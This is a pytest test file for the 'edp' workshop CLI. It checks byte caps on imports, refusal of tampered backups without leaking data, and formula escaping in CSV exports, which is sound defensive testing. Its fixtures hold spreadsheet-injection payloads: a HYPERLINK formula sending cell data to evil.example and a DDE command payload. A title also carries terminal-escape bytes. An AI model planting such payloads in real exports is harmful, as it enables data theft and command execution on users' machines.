"""python -m edp limits: file imports read at most their cap (/dev/zero, pipes), a SQLite path in a
missing folder is refused, backups are checked before a restore writes, errors print no row
contents, and every CSV the CLI writes is guarded against spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import Engine, select

from edp import backup, demo
from edp import workshop as ops
from edp.__main__ import main
from edp.access import SYSTEM
from edp.db import read
from edp.io import exports
from edp.models import Participant
from edp.voting.ballots import submit_ballot
from tests.conftest import table_counts
from tests.factory import make_setup

ROOT = Path(__file__).resolve().parents[2]
MEMORY_LIMIT = 3 * 1024**3  # the 22.8 GB the red team saw would end in a MemoryError long before
KEY = "k" * 48
# The red team's titles: a link, a sum, and a command (DDE) payload.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', "+SUM(1,1)", "@cmd|' /C calc'!A0", "-1+1"]


def url_of(engine: Engine) -> str:
    return engine.url.render_as_string(hide_password=False)


def run(capsys, *argv: str) -> tuple[int, str, str]:  # noqa: ANN001
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def cli(*argv: str, stdin_cmd: str | None = None, env_extra: dict | None = None) -> subprocess.CompletedProcess:
    """python -m edp in a child process whose address space is capped (RLIMIT_AS)."""
    env = {**os.environ, "OPENBLAS_NUM_THREADS": "1", "OMP_NUM_THREADS": "1", **(env_extra or {})}
    cmd = [sys.executable, "-m", "edp", *argv]
    if stdin_cmd:  # a shell pipeline feeding stdin, e.g. an endless `yes`
        producer = subprocess.Popen(stdin_cmd, shell=True, stdout=subprocess.PIPE)
        try:
            return subprocess.run(cmd, cwd=ROOT, env=env, stdin=producer.stdout, capture_output=True, text=True,
                                  timeout=120, preexec_fn=_limit_memory)  # fmt: skip
        finally:
            producer.stdout.close()
            producer.kill()
            producer.wait()
    return subprocess.run(cmd, cwd=ROOT, env=env, capture_output=True, text=True, timeout=120, preexec_fn=_limit_memory)


def one_line(proc: subprocess.CompletedProcess) -> str:
    assert proc.returncode == 2, proc.stderr
    assert proc.stdout == "" and "Traceback" not in proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), proc.stderr
    return lines[0]


# ---------------------------------------------------------------- file imports read with a byte cap


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero")
def test_red_team_import_roadmap_from_dev_zero_is_refused_at_once_naming_the_limit(engine):
    before = table_counts(engine)
    proc = cli("--database", url_of(engine), "--lang", "en", "import", "roadmap", "/dev/zero", "--process", "1")
    assert one_line(proc) == "error: The file is too big: it may be at most 5 MB. Nothing was read in."
    assert table_counts(engine) == before


def test_import_roadmap_from_an_endless_pipe_is_refused_at_once(engine):
    proc = cli("--database", url_of(engine), "import", "roadmap", "/dev/stdin", "--process", "1", stdin_cmd="yes")
    assert one_line(proc) == "error: Filen är för stor: den får vara högst 5 MB. Inget har lästs in."


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero")
def test_restore_from_dev_zero_is_refused_at_once_naming_the_limit(engine):
    before = table_counts(engine)
    proc = cli("--database", url_of(engine), "--lang", "en", "restore", "/dev/zero", "--max-mb", "64")
    assert one_line(proc) == "error: The file is too big: it may be at most 64 MB. Nothing was read in."
    assert table_counts(engine) == before


# ---------------------------------------------------------------- a SQLite path whose folder is missing


@pytest.mark.parametrize(
    "argv",
    [
        ["list"],
        ["results", "--round", "1"],
        ["export", "ballots", "--round", "1"],
        ["backup", "--out", "b.json"],
        ["demo"],
        ["restore", "b.json"],
        ["import", "roadmap", "r.xlsx", "--process", "1"],
        ["report", "--process", "1", "--format", "docx", "--out", "r.docx"],
    ],
)
def test_a_sqlite_path_in_a_missing_folder_is_refused_and_nothing_created(capsys, tmp_path, monkeypatch, argv):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "b.json").write_text("{}", encoding="utf-8")
    (tmp_path / "r.xlsx").write_bytes(b"PK")
    folder = tmp_path / "nonexistent" / "deeper"
    code, out, err = run(capsys, "--database", f"sqlite:///{folder / 'x.db'}", "--lang", "en", *argv)
    assert code == 2 and out == ""
    assert err == (
        f"error: The folder {folder} does not exist, so the database cannot be there. Nothing was created. "
        "Check --database or EDP_DATABASE_URL; python -m edp db upgrade creates a new database and its folder.\n"
    )
    assert not (tmp_path / "nonexistent").exists()


def test_a_missing_sqlite_file_is_refused_by_a_command_that_does_not_create_one(capsys, tmp_path):
    path = tmp_path / "x.db"
    code, _, err = run(capsys, "--database", f"sqlite:///{path}", "list")
    assert code == 2 and err.startswith(f"error: Databasen {path} finns inte. Inget har skapats.")
    assert not path.exists()


def test_db_upgrade_creates_the_missing_folder_and_then_the_database_is_used(capsys, tmp_path):
    url = f"sqlite:///{tmp_path / 'new' / 'folder' / 'x.db'}"
    assert run(capsys, "--database", url, "db", "upgrade")[0] == 0
    assert (tmp_path / "new" / "folder" / "x.db").exists()
    code, out, _ = run(capsys, "--database", url, "list")
    assert code == 0 and "no processes" in out


def test_demo_and_restore_may_create_the_file_in_an_existing_folder(capsys, tmp_path):
    url = f"sqlite:///{tmp_path / 'demo.db'}"
    assert run(capsys, "--database", url, "demo")[0] == 0
    assert run(capsys, "--database", url, "backup", "--out", str(tmp_path / "b.json"))[0] == 0
    code, out, err = run(capsys, "--database", f"sqlite:///{tmp_path / 'copy.db'}", "restore", str(tmp_path / "b.json"))
    assert code == 0 and out.startswith("restored "), err


def test_a_postgresql_url_is_not_taken_for_a_path(engine, capsys):
    if engine.dialect.name != "postgresql":
        pytest.skip("the PostgreSQL half")
    code, out, _ = run(capsys, "--database", url_of(engine), "list")
    assert code == 0 and "no processes" in out


# ---------------------------------------------------------------- restores: tampered files, no row contents


@pytest.fixture
def demo_backup(engine, tmp_path) -> tuple[Engine, dict]:
    demo.load(engine)
    return engine, backup.dump(engine)


def _tamper(data: dict, table: str, row: int, column: str, value) -> dict:  # noqa: ANN001
    out = json.loads(json.dumps(data))
    body = out["tables"][table]
    body["rows"][row][body["columns"].index(column)] = value
    return out


def red_team_tampers(data: dict) -> dict[str, dict]:
    from edp.security import hash_passcode

    return {
        "swapped passcode hash": _tamper(data, "workshops", 0, "passcode_hash", hash_passcode("inkräktare")),
        "100,000-character title with NUL and ESC": _tamper(
            data, "workshops", 0, "title", "T" * 49_990 + "\x00\x1b]0;pwned\x07" + "T" * 49_999
        ),
        "one-character token": _tamper(data, "participants", 0, "token_hash", "x"),
        "text in an integer column": _tamper(data, "ballot_entries", 0, "value", "tio"),
    }


def _secrets(engine: Engine) -> list[str]:
    with read(engine) as s:
        return [v for row in s.execute(select(Participant.display_name, Participant.token_hash)) for v in row]


def _restore(capsys, engine: Engine, path: Path, *extra: str) -> tuple[int, str, str]:  # noqa: ANN001
    return run(capsys, "--database", url_of(engine), "--lang", "en", "restore", str(path), "--replace", *extra)


def test_red_team_tampered_backups_are_refused_by_the_schema_and_nothing_written(demo_backup, tmp_path, capsys):
    engine, data = demo_backup
    before = table_counts(engine)
    secrets = _secrets(engine)
    expected = {
        "100,000-character title with NUL and ESC": "  workshops row 1: Title may be at most 200 characters but is 100000: 99800 too many.",
        "one-character token": "  participants row 1: token_hash is not a SHA-256 hash (64 lower-case hexadecimal digits).",
        "text in an integer column": "  ballot_entries row 1: Value must be a whole number.",
    }
    for name, doc in red_team_tampers(data).items():
        if name == "swapped passcode hash":
            continue  # well-formed: see the signed replay below
        path = tmp_path / "tampered.json"
        path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
        code, out, err = _restore(capsys, engine, path)
        assert code == 2 and out == "", name
        lines = err.splitlines()
        assert (
            lines[0]
            == "error: The backup does not follow the database schema (problems found: 1). Nothing was restored."
        )
        assert lines[1:] == [expected[name]], name
        assert "\x00" not in err and "\x1b" not in err and not any(s in err for s in secrets)
        assert table_counts(engine) == before


def test_red_team_tampered_backups_are_all_refused_when_backups_are_signed(engine, tmp_path, capsys, monkeypatch):
    demo.load(engine)
    monkeypatch.setenv(backup.KEY_ENV, KEY)
    signed = tmp_path / "signed.json"
    code, out, _ = run(capsys, "--database", url_of(engine), "backup", "--out", str(signed))
    assert code == 0 and "(signed with EDP_BACKUP_KEY)" in out
    data = json.loads(signed.read_text(encoding="utf-8"))
    before = table_counts(engine)
    for name, doc in red_team_tampers(data).items():
        path = tmp_path / "tampered.json"
        path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
        code, out, err = _restore(capsys, engine, path)
        assert code == 2 and out == "", name
        assert err.startswith("error: The backup's signature does not match"), (name, err)
        assert table_counts(engine) == before
    code, out, err = _restore(capsys, engine, signed)
    assert code == 0 and out.startswith("restored "), err


def test_a_restore_refused_on_a_duplicate_key_prints_no_names_or_tokens(demo_backup, tmp_path, capsys):
    engine, data = demo_backup
    token = data["tables"]["participants"]["rows"][0][data["tables"]["participants"]["columns"].index("token_hash")]
    path = tmp_path / "dup.json"
    path.write_text(json.dumps(_tamper(data, "participants", 1, "token_hash", token)), encoding="utf-8")
    before = table_counts(engine)
    code, _, err = _restore(capsys, engine, path)
    assert code == 2 and "participants row 2: token_hash: the same value as row 1" in err
    assert not any(s in err for s in _secrets(engine))
    assert table_counts(engine) == before


def test_a_restore_the_target_database_refuses_prints_no_row_contents(demo_backup, tmp_path, capsys, monkeypatch):
    """The database's own refusal (here: the schema check is skipped, as if it had missed it)."""
    engine, data = demo_backup
    token = data["tables"]["participants"]["rows"][0][data["tables"]["participants"]["columns"].index("token_hash")]
    path = tmp_path / "dup.json"
    path.write_text(json.dumps(_tamper(data, "participants", 1, "token_hash", token)), encoding="utf-8")
    monkeypatch.setattr(backup, "validate", lambda data: None)
    before = table_counts(engine)
    code, _, err = _restore(capsys, engine, path)
    assert code == 2 and err.startswith("error: The database refused the rows of participants (")
    assert ("uq_participants_token" in err) or ("participants.token" in err)
    assert not any(s in err for s in _secrets(engine)) and len(err.splitlines()) == 1
    assert table_counts(engine) == before


def test_an_unexpected_error_prints_its_kind_and_place_but_no_data(capsys, monkeypatch, tmp_path):
    import edp.__main__ as cli_main

    def boom(args) -> int:  # noqa: ANN001
        raise KeyError("Anna Andersson, token Zm9vYmFy")

    monkeypatch.setattr(cli_main, "cmd_list", boom)
    code, _, err = run(capsys, "--database", f"sqlite:///{tmp_path / 'x.db'}", "db", "upgrade")
    assert code == 0
    code, _, err = run(capsys, "--database", f"sqlite:///{tmp_path / 'x.db'}", "list")
    assert code == 70 and err.startswith("error: unexpected KeyError at ") and "Anna" not in err and "Zm9v" not in err


# ---------------------------------------------------------------- CSV outputs guarded against formulas


@pytest.fixture
def formula_round(engine) -> tuple[Engine, int]:
    s = make_setup(engine, participants={"business": 1, "civil": 1})
    ops.set_phase(engine, s.fac, s.round_id, "proposing")
    ids = [ops.propose(engine, s.tokens[0], s.round_id, ops.ThemeInput(title=t)).id for t in FORMULAS]
    ops.set_phase(engine, s.fac, s.round_id, "reviewing")
    ops.set_phase(engine, s.fac, s.round_id, "voting")
    submit_ballot(engine, s.tokens[0], s.round_id, {ids[0]: 3, ids[1]: 2})
    submit_ballot(engine, s.tokens[1], s.round_id, {ids[2]: 1, ids[3]: 1})
    ops.close_round(engine, s.fac, s.round_id)
    return engine, s.round_id


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(rows: list[list[str]], column: str) -> None:
    header, body = rows[0], rows[1:]
    assert sorted(row[header.index(column)] for row in body) == sorted("'" + f for f in FORMULAS)
    assert not [c for row in rows for c in row if c.startswith(exports.FORMULA_STARTS)]


def test_red_team_results_csv_writes_formula_titles_as_text(formula_round, capsys):
    engine, round_id = formula_round
    code, out, err = run(capsys, "--database", url_of(engine), "results", "--round", str(round_id), "--format", "csv")
    assert code == 0, err
    assert_no_formula(cells(out), "title")


def test_red_team_export_ballots_writes_formula_titles_as_text_to_stdout_and_to_a_file(formula_round, capsys, tmp_path):
    engine, round_id = formula_round
    code, out, err = run(capsys, "--database", url_of(engine), "export", "ballots", "--round", str(round_id))
    assert code == 0, err
    assert_no_formula(cells(out), "theme_title")
    target = tmp_path / "ballots.csv"
    run(capsys, "--database", url_of(engine), "export", "ballots", "--round", str(round_id), "--output", str(target))
    assert_no_formula(cells(target.read_text(encoding="utf-8")), "theme_title")


def test_export_roadmap_csv_writes_formula_text_as_text(engine, capsys, tmp_path):
    from edp.roadmap import operations as rmo

    s = make_setup(engine)
    rid = rmo.create_roadmap(engine, SYSTEM, s.process_id, {"title": FORMULAS[0], "period_start": "2026-01-01",
                                                    "period_end": "2026-12-31"})  # fmt: skip
    rmo.save_goals(engine, SYSTEM, rid, [{"title": FORMULAS[2]}])
    out = tmp_path / "rm.zip"
    code, _, err = run(capsys, "--database", url_of(engine), "export", "roadmap", "--roadmap", str(rid),
                       "--format", "csv", "--out", str(out))  # fmt: skip
    assert code == 0, err
    with zipfile.ZipFile(out) as zf:
        every = [c for name in zf.namelist() for row in cells(zf.read(name).decode("utf-8-sig")) for c in row]
    assert "'" + FORMULAS[0] in every and "'" + FORMULAS[2] in every
    assert not [c for c in every if c.startswith(exports.FORMULA_STARTS)]
